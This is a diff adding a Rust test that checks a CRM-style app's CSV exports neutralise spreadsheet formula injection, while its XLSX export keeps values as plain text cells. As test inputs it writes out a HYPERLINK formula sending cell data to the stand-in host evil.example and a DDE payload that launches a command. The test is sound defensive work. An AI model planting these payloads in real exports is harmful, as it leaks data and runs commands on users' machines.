@@ -225,7 +225,55 @@ async fn custom_fields_are_columns_and_filters(b: Backend) {
     assert_eq!(jia2[19..], ["一般", "9.50"]);
 }
 
+/// Values a spreadsheet would run as formulas are neutralised in CSV (a
+/// leading `'`, every field quoted), in customer and conversation exports;
+/// the XLSX export keeps them as they are, as text cells.
+async fn csv_exports_neutralise_formulas(b: Backend) {
+    let Company { s, sp1, .. } = company(b).await;
+    let hyperlink = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
+    let calc = "+cmd|' /C calc'!A0";
+    let id = create(
+        &s,
+        &sp1,
+        json!({ "name": hyperlink, "company": calc, "title": "-5", "address": "@SUM(1)", "phones": ["+852 9123 4567"] }),
+    )
+    .await;
+    let r = s
+        .gql(
+            Some(&sp1.token),
+            "mutation($i: AddConversationInput!) { addConversation(input: $i) { merged } }",
+            json!({ "i": { "customerId": id, "topic": "=1+1", "content": "-2+3", "kind": "CALL" } }),
+        )
+        .await;
+    r.ok();
+
+    let (_, _, body) = fetch(&s, export(&s, &sp1, json!(null), "CSV").await["url"].as_str().unwrap()).await;
+    let text = String::from_utf8(body.clone()).unwrap();
+    assert!(text.contains(r#""'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")""#), "{text}");
+    assert!(text.contains(r#""'+cmd|' /C calc'!A0""#), "{text}");
+    assert!(text.lines().all(|l| l.trim_start_matches('\u{feff}').starts_with('"')), "every field quoted: {text}");
+    let rows = csv_rows(&body);
+    let row = &rows[1];
+    assert_eq!(row[1], format!("'{hyperlink}"));
+    assert_eq!(row[2], format!("'{calc}"));
+    // Numbers and phone numbers too: OWASP's rule, without exceptions.
+    assert_eq!(row[3], "'-5");
+    assert!(row[4].starts_with("'+852"), "{}", row[4]);
+    assert_eq!(row[6], "'@SUM(1)");
+    assert!(!row[0].starts_with('\''), "a number like KH… is left alone");
+
+    let r = s.gql(Some(&sp1.token), "mutation { exportConversations(format: CSV) { url } }", json!({})).await;
+    let rows = csv_rows(&fetch(&s, r.ok()["exportConversations"]["url"].as_str().unwrap()).await.2);
+    assert_eq!((rows[1][1].as_str(), rows[1][2].as_str()), (format!("'{hyperlink}").as_str(), "'=1+1"));
+    assert_eq!(rows[1][3], "'-2+3");
+
+    // XLSX cells are text, never formulas: the values as they are.
+    let rows = xlsx_rows(&fetch(&s, export(&s, &sp1, json!(null), "XLSX").await["url"].as_str().unwrap()).await.2);
+    assert_eq!((rows[1][1].as_str(), rows[1][2].as_str(), rows[1][3].as_str()), (hyperlink, calc, "-5"));
+}
+
 backend_tests!(
+    csv_exports_neutralise_formulas,
     custom_fields_are_columns_and_filters,
     customer_exports_follow_visibility_and_filters,
     conversation_exports,
